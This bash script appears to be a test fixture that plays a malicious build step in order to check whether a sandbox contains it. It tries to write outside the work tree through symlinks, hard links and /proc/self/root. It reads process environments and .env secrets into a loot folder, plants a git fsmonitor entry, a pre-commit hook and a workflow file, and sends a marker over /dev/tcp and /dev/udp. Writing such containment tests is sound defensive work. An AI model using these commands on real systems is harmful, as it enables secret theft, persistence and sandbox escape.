#!/usr/bin/env bash
# What a malicious build step does with the access an allowed command gives
# it. Every attempt is made; what it gets lands in loot/ (inside the work
# tree, where it would reach the patch). The test judges the effects from
# outside; the lines printed here only help reading a failure.
# Inputs (env): ATTACK_OUTSIDE (files to create outside the tree, space
# separated), ATTACK_EXISTING (a file outside to change through a hard link), ATTACK_PIDS (pids whose environ to read), ATTACK_TCP, ATTACK_UDP,
# ATTACK_DNS (host:port on 127.0.0.1), ATTACK_MARK (a word to send).
mkdir -p loot
for f in $ATTACK_OUTSIDE; do
	echo pwned >"$f" 2>/dev/null && echo "write $f: done" || echo "write $f: blocked"
	# the same file through a link in the tree, and through /proc/self/root
	ln -sf "$f" loot/link 2>/dev/null && echo pwned >loot/link 2>/dev/null && echo "write via link $f: done" || echo "write via link $f: blocked"
	rm -f loot/link
	echo pwned >"/proc/self/root$f" 2>/dev/null && echo "write via /proc/self/root $f: done" || echo "write via /proc/self/root: blocked"
done
# a hard link in the tree to a file outside it, then a write through it
if [ -n "$ATTACK_EXISTING" ]; then
	ln "$ATTACK_EXISTING" loot/hardlink 2>/dev/null && echo pwned >>loot/hardlink 2>/dev/null && echo "hard link: written" || echo "hard link: blocked"
	rm -f loot/hardlink
fi
for p in $ATTACK_PIDS; do
	tr '\0' '\n' <"/proc/$p/environ" >>loot/environ 2>/dev/null && echo "environ $p: read" || echo "environ $p: blocked"
done
for e in /proc/[0-9]*/environ; do { tr '\0' '\n' <"$e" >>loot/all-environ; } 2>/dev/null; done
cat .env >>loot/dotenv 2>/dev/null && echo ".env: read $(wc -c <.env)" || echo ".env: blocked"
printf '\tfsmonitor = "touch /tmp/fsmonitor-ran"\n' >>.git/config 2>/dev/null && echo ".git/config: written" || echo ".git/config: blocked"
printf '#!/bin/sh\ntouch /tmp/hook-ran\n' >.git/hooks/pre-commit 2>/dev/null && echo "hook: written" || echo "hook: blocked"
mkdir -p .github/workflows && echo "on: push" >.github/workflows/evil.yml && echo "workflow: written"
(exec 3<>"/dev/tcp/${ATTACK_TCP%:*}/${ATTACK_TCP#*:}" && echo "$ATTACK_MARK" >&3) 2>/dev/null && echo "tcp: sent" || echo "tcp: blocked"
(echo "$ATTACK_MARK" >"/dev/udp/${ATTACK_UDP%:*}/${ATTACK_UDP#*:}") 2>/dev/null && echo "udp: sent" || echo "udp: blocked"
(echo "$ATTACK_MARK" >"/dev/udp/${ATTACK_DNS%:*}/${ATTACK_DNS#*:}") 2>/dev/null && echo "dns: sent" || echo "dns: blocked"
exit 0
